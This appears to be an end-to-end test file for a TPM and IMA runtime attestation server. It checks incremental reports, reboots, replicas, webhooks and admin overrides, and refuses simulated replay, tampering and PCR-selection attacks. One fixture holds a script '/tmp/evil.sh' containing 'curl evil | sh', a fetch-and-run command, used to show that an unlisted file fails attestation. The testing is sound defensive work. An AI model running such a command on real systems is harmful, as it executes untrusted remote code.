/**
 * Runtime attestation end to end (issue 12 §3–4): a real server on a free port (SQLite), a swtpm
 * "booted" into our OVMF log, a LUKS2 image enrolled with the real client, an IMA list built here
 * whose entries are extended into the swtpm's PCR 10 (test/runtime/helpers.ts), and the real
 * agent code (src/agent/agent.ts, and `bootkey agent --once` once):
 *  - RUNTIME_OFF without a runtime policy; several incremental reports (each sends only new entries);
 *  - a first list in many chunks; a reboot (swtpm restart: resetCount changes) restarts at entry 0;
 *  - attacker's tests: a list doctored after the quote (changed path, same template hash) is
 *    refused (REPLAY, failed); a replayed report (old nonce) NONCE_USED; a report claiming fewer
 *    entries than stored IMA_FROM; a quote without PCR 10 SELECTION;
 *  - an unlisted file → failed naming the file, the next boot refused RUNTIME_FAILED, `admin clear`
 *    → the boot unlocks; the webhook (a local HTTP server) receives the failure with a valid HMAC;
 *  - two replicas on one SQLite file continue one machine's chain;
 *  - stale: set-stale-limit, the next boot refused RUNTIME_STALE, `admin approve --for` lets one through.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import http from 'node:http';
import { createHmac } from 'node:crypto';
import { writeFileSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { tempDir, testServer, luksImage, machine, enrollMachine, unlockImage, refused, cli, type TestServer, type Machine } from '../e2e/helpers.ts';
import { readToken } from '../../src/initrd/unlock.ts';
import { attestRuntime, chunkEntries, type AgentOptions, type RuntimeReport } from '../../src/agent/agent.ts';
import { withServer } from '../../src/client/connect.ts';
import { startServer, type RunningServer } from '../../src/server/server.ts';
import type { BootkeyToken } from '../../src/client/token.ts';
import { heldRuntimeBytes } from '../../src/server/runtime.ts';
import { ImaLog, runtimePolicy, imaNgData, binaryEntry } from './helpers.ts';

const tmp = tempDir('runtime');
let srv: TestServer;
let m: Machine;
let img: { image: string; pass: string };
let token: BootkeyToken;
let machineId: string;
let ima: ImaLog;

const ALLOWED: Record<string, string> = {
  '/usr/bin/bash': 'bash v1', '/usr/lib/libc.so.6': 'libc', '/usr/sbin/sshd': 'sshd', '/usr/bin/ls': 'ls', '/usr/bin/cat': 'cat', '/etc/ld.so.cache': 'cache',
};
for (let i = 0; i < 300; i++) ALLOWED[`/usr/lib/modules/m${i}.ko`] = `module ${i}`;

async function adminOp(s: Pick<TestServer, 'url' | 'ca' | 'adminToken'>, op: string, fields: Record<string, unknown> = {}): Promise<Record<string, unknown>> {
  const r = await withServer({ servers: [s.url], ca: s.ca, deadlineMs: 10_000 }, (x) => x.request({ t: 'admin', adminToken: s.adminToken, op, machine: machineId, ...fields } as never, ['admin-result']));
  return JSON.parse(r.json) as Record<string, unknown>;
}

function agent(extra: Partial<AgentOptions> = {}): ReturnType<typeof attestRuntime> {
  return attestRuntime({ tpm: m.tpm, token, imaList: { path: '(test)', bank: 'sha256' }, readList: () => ima.bytes(), deadlineMs: 20_000, client: { maxAttempts: 2 }, ...extra });
}

async function reboot(): Promise<void> {
  await m.reboot();
  ima = await ImaLog.start(m.tpm);
}

test.before(async () => {
  srv = await testServer(tmp.dir);
  m = await machine();
  img = await luksImage(tmp.dir);
  const r = await enrollMachine(srv, m, img);
  machineId = r.machine;
  token = (await readToken(img.image)).token;
  await unlockImage(m, img.image);
  ima = await ImaLog.start(m.tpm);
  for (const p of ['/usr/bin/bash', '/usr/lib/libc.so.6', '/usr/sbin/sshd']) await ima.measure(p, ALLOWED[p]);
});

test.after(async () => {
  await m?.stop();
  await srv?.close();
  tmp.cleanup();
});

test('no runtime policy: RUNTIME_OFF, and admin show says runtime attestation is off', async () => {
  const e = await refused(agent(), 'RUNTIME_OFF');
  assert.match(e.message, /no runtime policy/);
  const show = await adminOp(srv, 'show');
  assert.is((show.runtime as { state: string }).state, 'off');
  assert.match(String((show.runtime as { reason: string }).reason), /off/);
  const audit = (await adminOp(srv, 'audit', { limit: 100 })) as unknown as { code?: string }[];
  assert.not.ok(audit.some((x) => x.code === 'RUNTIME_OFF'), 'an agent without a policy does not fill the audit table');
});

test('a bad runtime policy is refused BAD_RUNTIME_POLICY; the CLI sets a good one', async () => {
  await refused(adminOp(srv, 'set-runtime-policy', { runtimePolicy: '{"format": "nope"}' }), 'BAD_RUNTIME_POLICY');
  const file = join(tmp.dir, 'runtime-policy.json');
  writeFileSync(file, runtimePolicy(ALLOWED));
  writeFileSync(join(tmp.dir, 'ca.pem'), srv.ca);
  writeFileSync(join(tmp.dir, 'admin.token'), srv.adminToken);
  const r = await cli(['admin', '--server', srv.url, '--ca', join(tmp.dir, 'ca.pem'), '--admin-token', join(tmp.dir, 'admin.token'), 'set-runtime-policy', machineId, file, '--json']);
  assert.is(r.code, 0, r.stderr);
  assert.is((JSON.parse(r.stdout) as { runtimePolicy: string }).runtimePolicy, 'set');
});

test('incremental reports: the first sends the whole list, the next ones only new entries', async () => {
  const a = await agent();
  assert.is(a.result.state, 'attesting', a.result.message);
  assert.is(a.from, 0);
  assert.is(a.result.count, 4); // boot_aggregate + 3
  await ima.measure('/usr/bin/ls', ALLOWED['/usr/bin/ls']);
  await ima.measure('/usr/bin/cat', ALLOWED['/usr/bin/cat']);
  const b = await agent();
  assert.is(b.result.state, 'attesting', b.result.message);
  assert.is(b.from, 4);
  assert.is(b.sent, 2);
  assert.is(b.result.count, 6);
  const c = await agent();
  assert.is(c.from, 6);
  assert.is(c.sent, 0);
  assert.is(c.result.count, 6);
  const show = await adminOp(srv, 'show');
  assert.is((show.runtime as { state: string; entries: number }).state, 'attesting');
  assert.is((show.runtime as { entries: number }).entries, 6);
});

test('entries appended after the quote are unbound and come in the next report', async () => {
  // The list read after the quote holds one more entry than the quoted PCR 10 covers.
  const extra = binaryEntry(imaNgData('/usr/lib/modules/m0.ko', Buffer.alloc(32, 7)));
  const r = await agent({ readList: () => Buffer.concat([ima.bytes(), extra]) });
  assert.is(r.result.state, 'attesting', r.result.message);
  assert.is(r.result.unbound, 1);
  assert.is(r.result.count, 6);
});

test('attack: a report that claims fewer entries than stored is refused IMA_FROM', async () => {
  await ima.measure('/etc/ld.so.cache', ALLOWED['/etc/ld.so.cache']);
  const e = await refused(agent({
    tamper: (rep) => ({ ...rep, from: 5, entries: Buffer.concat([ima.entries[5].bytes, ima.entries[6].bytes]) }),
  }), 'IMA_FROM');
  assert.match(e.message, /verified 6 entries/);
  const ok = await agent();
  assert.is(ok.result.state, 'attesting');
  assert.is(ok.result.count, 7);
});

test('attack: a replayed report (its nonce already used) is refused NONCE_USED', async () => {
  let kept: RuntimeReport | undefined;
  await agent({ tamper: (rep) => (kept = rep) });
  const again = withServer({ servers: [srv.url], ca: srv.ca, deadlineMs: 10_000, maxAttempts: 1 }, (s) => s.request(kept!, ['runtime-result']));
  await refused(again, 'NONCE_USED');
});

test('attack: a quote without PCR 10 is refused SELECTION', async () => {
  const { quotePCRs } = await import('../../src/tpm/commands/attest.ts');
  const { createAK, flushKey } = await import('../../src/tpm/keys.ts');
  const { marshalSignature } = await import('../../src/tpm/structures.ts');
  const { tokenAKTemplate } = await import('../../src/client/token.ts');
  const ak = await createAK(m.tpm, token.ak_alg, tokenAKTemplate(token));
  try {
    const p = withServer({ servers: [srv.url], ca: srv.ca, deadlineMs: 10_000, maxAttempts: 1 }, async (s) => {
      const ch = await s.request({ t: 'runtime-begin', machine: machineId, akName: ak.name }, ['runtime-challenge']);
      const q = await quotePCRs(m.tpm, ak, { selection: [{ hash: 0x0b, pcrs: [0, 1, 2, 3, 4, 5, 6, 7, 8, 9] }], nonce: ch.nonce });
      return s.request({ t: 'runtime-report', machine: machineId, akName: ak.name, nonce: ch.nonce, quote: q.quoted, signature: marshalSignature(q.signature), pcrs: q.pcrs, bank: 'sha256', from: 7, entries: Buffer.alloc(0) }, ['runtime-result']);
    });
    const e = await refused(p, 'SELECTION');
    assert.match(e.message, /PCR\(s\) 10/);
  } finally {
    await flushKey(m.tpm, ak);
  }
});

test('attack: chunks without a runtime-begin on the same connection are refused IMA_NO_BEGIN (nothing held)', async () => {
  const p = withServer({ servers: [srv.url], ca: srv.ca, deadlineMs: 10_000, maxAttempts: 1 }, (s) =>
    s.request({ t: 'runtime-entries', machine: machineId, nonce: Buffer.alloc(32), bank: 'sha256', from: 0, entries: ima.bytes() }, ['runtime-more']));
  await refused(p, 'IMA_NO_BEGIN');
});

test('two replicas on one SQLite file continue one machine\'s chain', async () => {
  const lines: string[] = [];
  const srv2 = await testServer(tmp.dir, { state: srv.state, log: (l) => lines.push(l) });
  try {
    const t2 = { ...token, servers: [srv2.url] };
    await ima.measure('/usr/lib/modules/m1.ko', ALLOWED['/usr/lib/modules/m1.ko']);
    const a = await agent({ token: t2 });
    assert.is(a.from, 7, 'replica 2 continues where replica 1 stopped');
    assert.is(a.result.count, 8);
    // A routine report (attesting → attesting, same boot) is counted in metrics, not logged.
    assert.is(lines.filter((l) => l.includes('event=runtime-report')).length, 0, lines.join('\n'));
    await ima.measure('/usr/lib/modules/m2.ko', ALLOWED['/usr/lib/modules/m2.ko']);
    const b = await agent();
    assert.is(b.from, 8, 'and replica 1 where replica 2 stopped');
    assert.is(b.result.count, 9);
  } finally {
    await srv2.close();
  }
});

test('a reboot (swtpm restart, resetCount changes) restarts the chain at entry 0; a first list goes in chunks', async () => {
  await reboot();
  await unlockImage(m, img.image);
  for (let i = 3; i < 300; i++) await ima.measure(`/usr/lib/modules/m${i}.ko`, ALLOWED[`/usr/lib/modules/m${i}.ko`]);
  const { chunks } = chunkEntries(ima.bytes(), 'sha256', 0, 4096);
  assert.ok(chunks.length > 5, `${chunks.length} chunks`);
  const r = await agent({ chunkBytes: 4096 });
  assert.is(r.result.state, 'attesting', r.result.message);
  assert.is(r.from, 0);
  assert.is(r.result.count, ima.entries.length);
  assert.is(heldRuntimeBytes(), 0, 'the chunks were released after the report');
});

test('attack: a list doctored after the quote (another path, the same template hash) is refused', async () => {
  // Entry 5's path changes, its recorded template hash does not: the list still "looks" like
  // PCR 10 to whoever trusts the recorded hashes. The server recomputes it from the data.
  await ima.measure('/usr/lib/modules/m299.ko', ALLOWED['/usr/lib/modules/m299.ko']);
  const last = ima.entries.length - 1;
  const forged = binaryEntry(imaNgData('/usr/bin/innocent', ima.entries[last].digest), Buffer.from(ima.entries[last].bytes.subarray(4, 36)));
  const doctor = (rep: RuntimeReport): RuntimeReport => ({ ...rep, entries: Buffer.concat([...ima.entries.slice(rep.from, last).map((e) => e.bytes), forged]) });
  const r = await agent({ tamper: doctor });
  assert.is(r.result.state, 'failed', r.result.message);
  assert.match(r.result.message, /REPLAY/);
  await refused(unlockAfterReboot(), 'RUNTIME_FAILED');
  await adminOp(srv, 'clear');
  const ok = await agent();
  assert.is(ok.result.state, 'attesting', ok.result.message);
});

async function unlockAfterReboot(): ReturnType<typeof unlockImage> {
  await reboot();
  return unlockImage(m, img.image);
}

test('an unlisted file → failed naming it; the webhook gets it signed; next boot RUNTIME_FAILED; admin clear → unlocks', async () => {
  const secret = Buffer.from('0123456789abcdef0123456789abcdef');
  const got: { body: string; sig: string | undefined }[] = [];
  let fails = 1; // the first delivery answers 500: the notifier retries
  const hook = http.createServer((req, res) => {
    const parts: Buffer[] = [];
    req.on('data', (c: Buffer) => parts.push(c));
    req.on('end', () => {
      if (fails-- > 0) return res.writeHead(500).end();
      got.push({ body: Buffer.concat(parts).toString('utf8'), sig: req.headers['x-bootkey-signature'] as string | undefined });
      res.writeHead(204).end();
    });
  });
  await new Promise<void>((r) => hook.listen(0, '127.0.0.1', r));
  const hookPort = (hook.address() as { port: number }).port;
  let srv3: RunningServer | undefined;
  try {
    const lines: string[] = [];
    srv3 = await startServer({ stateDir: srv.state, listen: '127.0.0.1:0', log: (l) => lines.push(l), webhook: { url: `http://127.0.0.1:${hookPort}/bootkey`, secret, backoffMs: 50 }, rateLimit: { perPeer: { burst: 1000, perSecond: 1000 }, perMachine: { burst: 1000, perSecond: 1000 } } });
    const t3 = { ...token, servers: [`https://127.0.0.1:${srv3.port}`] };
    await ima.measure('/usr/bin/cat', ALLOWED['/usr/bin/cat']);
    await ima.measure('/tmp/evil.sh', '#!/bin/sh\ncurl evil | sh\n');
    const r = await agent({ token: t3 });
    assert.is(r.result.state, 'failed');
    assert.ok(r.result.failures.some((f) => f.includes('/tmp/evil.sh')), r.result.failures.join('\n'));
    const evil = r.result.failures.find((f) => f.includes('/tmp/evil.sh'))!;
    assert.match(evil, /^entry \d+ \/tmp\/evil\.sh: /);
    assert.is(evil.split('/tmp/evil.sh').length, 2, `the entry is named once: ${evil}`);
    assert.ok(!r.result.failures.some((f) => f.includes('/usr/bin/cat')), 'only the unlisted file fails');
    assert.ok(lines.some((l) => l.includes('event=runtime-report') && l.includes('result=failed')), 'a state change is logged: ' + lines.join('\n'));
    assert.ok(lines.some((l) => l.includes('event=runtime-failed') && l.includes('/tmp/evil.sh')), 'the failure names the file in the log');
    for (let i = 0; i < 100 && !got.length; i++) await new Promise((res) => setTimeout(res, 50));
    assert.is(got.length, 1, 'the webhook was delivered (after one retry)');
    const expect = `sha256=${createHmac('sha256', secret).update(got[0].body).digest('hex')}`;
    assert.is(got[0].sig, expect, 'valid HMAC over the body');
    const ev = JSON.parse(got[0].body) as { event: string; machine: string; failures: string[] };
    assert.is(ev.event, 'runtime-failed');
    assert.is(ev.machine, machineId);
    assert.ok(ev.failures.some((f) => f.includes('/tmp/evil.sh')));
  } finally {
    await srv3?.close();
    hook.close();
  }
  // The failure is sticky: a clean report does not end it.
  const show = await adminOp(srv, 'show');
  assert.is((show.runtime as { state: string }).state, 'failed');
  const cliArgs = ['--server', srv.url, '--ca', join(tmp.dir, 'ca.pem'), '--admin-token', join(tmp.dir, 'admin.token')];
  const plain = await cli(['admin', ...cliArgs, 'show', machineId]);
  assert.is(plain.code, 0, plain.stderr);
  assert.match(plain.stdout, /^runtime: failed, /m);
  assert.match(plain.stdout, /^ {2}- entry \d+ \/tmp\/evil\.sh: /m);
  const list = await cli(['admin', ...cliArgs, 'list', '--json']);
  assert.is((JSON.parse(list.stdout) as { id: string; runtime: { state: string } }[]).find((x) => x.id === machineId)?.runtime.state, 'failed');
  const audit = (await adminOp(srv, 'audit', { limit: 50 })) as unknown as { action: string; reasons?: string[] }[];
  assert.ok(audit.some((a) => a.action === 'runtime-failed' && a.reasons?.some((x) => x.includes('/tmp/evil.sh'))));
  const e = await refused(unlockAfterReboot(), 'RUNTIME_FAILED');
  assert.match(e.message, /admin clear/);
  assert.ok(e.failures?.some((f) => f.includes('/tmp/evil.sh')), 'the refusal names the file');
  await adminOp(srv, 'approve', { seconds: 3600 });
  await refused(unlockAfterReboot(), 'RUNTIME_FAILED'); // approve does not end a failure
  await adminOp(srv, 'approve', { seconds: 0 }); // --for 0 withdraws it
  await adminOp(srv, 'clear');
  await m.reboot();
  const u = await unlockImage(m, img.image);
  assert.is(u.machine, machineId);
  ima = await ImaLog.start(m.tpm);
});

test('stale: no report for longer than the limit refuses the next boot RUNTIME_STALE until admin approve --for', async () => {
  await adminOp(srv, 'set-stale-limit', { seconds: 1 });
  await new Promise((r) => setTimeout(r, 1300));
  const listed = (await adminOp(srv, 'list')) as unknown as { id: string; runtime: { state: string; reason: string } }[];
  const me = listed.find((x) => x.id === machineId)!;
  assert.is(me.runtime.state, 'stale');
  assert.match(me.runtime.reason, /no verified runtime report/);
  const e = await refused(unlockAfterReboot(), 'RUNTIME_STALE');
  assert.match(e.message, /stale/);
  await adminOp(srv, 'approve', { seconds: 600 });
  await m.reboot();
  await unlockImage(m, img.image);
  const audit = (await adminOp(srv, 'audit', { limit: 20 })) as unknown as { action: string }[];
  assert.ok(audit.some((a) => a.action === 'admin-approve'));
  assert.ok(audit.some((a) => a.action === 'runtime-approval-used'));
  // One release only: later, stale again, refused again.
  await new Promise((r) => setTimeout(r, 1300));
  await refused(unlockAfterReboot(), 'RUNTIME_STALE');
  await adminOp(srv, 'set-stale-limit', { seconds: 0 });
  await m.reboot();
  await unlockImage(m, img.image);
  ima = await ImaLog.start(m.tpm);
});

test('bootkey agent --once --json (the command) attests and exits 0', async () => {
  const file = join(tmp.dir, 'binary_runtime_measurements_sha256');
  writeFileSync(file, ima.bytes());
  await m.detach();
  try {
    const r = await cli(['agent', '--once', '--json', '--device', img.image, '--tpm', m.sw.tcti, '--ima-list', file]);
    assert.is(r.code, 0, r.stderr);
    const j = JSON.parse(r.stdout) as { state: string; entries: number; from: number };
    assert.is(j.state, 'attesting');
    assert.is(j.entries, 1);
    assert.not.match(r.stdout + r.stderr, new RegExp(srv.adminToken));
  } finally {
    await m.attach();
  }
  assert.ok(readFileSync(file).length > 0);
});

test.run();
